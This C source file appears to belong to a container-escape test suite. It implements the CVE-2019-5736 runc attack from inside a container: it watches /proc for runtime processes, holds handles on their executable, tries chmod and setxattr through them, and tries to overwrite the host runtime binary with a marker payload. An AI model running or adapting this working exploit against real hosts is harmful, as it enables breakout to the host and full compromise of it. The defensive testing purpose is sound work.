// race SIZE MS STOPFILE [hold]
//
// CVE-2019-5736 from inside the container. Another process of the
// container is started with a `#!/proc/self/exe` script as its command, so
// the kernel runs, in the container, whatever image the process that exec'd
// it had: the runtime's. This program watches /proc for a process whose
// exe has the runtime's SIZE, keeps an O_PATH handle on it, stops it (to
// hold the window open), tries chmod/setxattr through the handle, kills it
// and then keeps reopening the handle for writing (the runtime's own
// processes exit; the classic attack then overwrites the host binary).
// Runs for MS ms or until STOPFILE exists. With `hold`, a captured process
// is left alone (the test keeps it blocked; killing the container's main
// process would end the container, and this program with it).
#include "attack.h"
#include <signal.h>
#include <sys/xattr.h>

static const char payload[] = "#!/bin/sh\necho PWNED-BY-THE-CONTAINER\n";

static int captured[64], ncaptured;
static int handles[64], nhandles;
static int write_attempts;
static int hold;

static int seen(int pid) {
    for (int i = 0; i < ncaptured; i++)
        if (captured[i] == pid) return 1;
    return 0;
}

// Reopen every handle for writing (once it opens, it is done with).
static void try_writes(void) {
    for (int i = 0; i < nhandles; i++) {
        if (handles[i] < 0) continue;
        char p[64];
        snprintf(p, sizeof p, "/proc/self/fd/%d", handles[i]);
        write_attempts++;
        int fd = open(p, O_WRONLY | O_CLOEXEC);
        if (fd < 0) continue;
        ssize_t w = write(fd, payload, sizeof payload - 1);
        if (w > 0)
            ESCAPE("exe-handle-write", captured[i], "wrote %zd bytes into the runtime image", w);
        else
            say("note handle %d opened for writing, write: %s", i, strerrorname_np(errno));
        close(fd);
        close(handles[i]);
        handles[i] = -1;
    }
}

static void capture(int pid, int fd, const struct stat *st) {
    // Hold the process (and its image) while we work.
    if (pid != 1 && !hold) kill(pid, SIGSTOP);
    char l[4096], p[64], c[64];
    snprintf(p, sizeof p, "/proc/%d/exe", pid);
    ssize_t n = readlink(p, l, sizeof l - 1);
    l[n < 0 ? 0 : n] = 0;
    comm_of(pid, c, sizeof c);
    say("observed %d %s exe %s dev %lx ino %lu", pid, c, l, (unsigned long)st->st_dev,
        (unsigned long)st->st_ino);
    captured[ncaptured++] = pid;
    handles[nhandles++] = fd;
    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    int r = chmod(p, 04777);
    VERDICT(r, "exe-chmod", pid, "through the handle");
    r = setxattr(p, "user.pwned", "1", 1, 0);
    VERDICT(r, "exe-setxattr", pid, "through the handle");
    try_writes();
    if (pid != 1 && !hold) kill(pid, SIGKILL);
}

int main(int argc, char **argv) {
    if (argc < 4) {
        fprintf(stderr, "usage: race SIZE MS STOPFILE [hold]\n");
        return 2;
    }
    hold = argc > 4 && !strcmp(argv[4], "hold");
    long long size = atoll(argv[1]);
    long deadline = now_ms() + atol(argv[2]);
    const char *stop = argv[3];
    say("ready");
    long last_capture = 0;
    int maxpid = 0;
    for (unsigned long round = 0; now_ms() < deadline && ncaptured < 64; round++) {
        // A full /proc listing now and then; in between, poll the next few
        // pids the namespace will hand out: a short-lived process is
        // caught within microseconds of its exec.
        int pids[512];
        int n = 0;
        if (round % 64 == 0) {
            n = list_pids(pids, 512);
            if (n && pids[n - 1] > maxpid) maxpid = pids[n - 1];
        }
        for (int k = 1; k <= 4 && n < 512; k++) pids[n++] = maxpid + k;
        for (int i = 0; i < n; i++) {
            int pid = pids[i];
            if (pid == getpid() || seen(pid)) continue;
            char p[64];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int fd = open(p, O_PATH | O_CLOEXEC);
            if (fd < 0) continue;
            if (pid > maxpid) maxpid = pid;
            struct stat st;
            if (fstat(fd, &st) == 0 && st.st_size == size) {
                capture(pid, fd, &st);
                last_capture = now_ms();
            } else {
                close(fd);
            }
        }
        // The runtime's processes are gone soon after ours: keep trying.
        if (nhandles && now_ms() - last_capture < 3000) try_writes();
        if (round % 64 == 0 && access(stop, F_OK) == 0) break;
    }
    say("summary observed %d write-attempts %d", ncaptured, write_attempts);
    say("done");
    return 0;
}
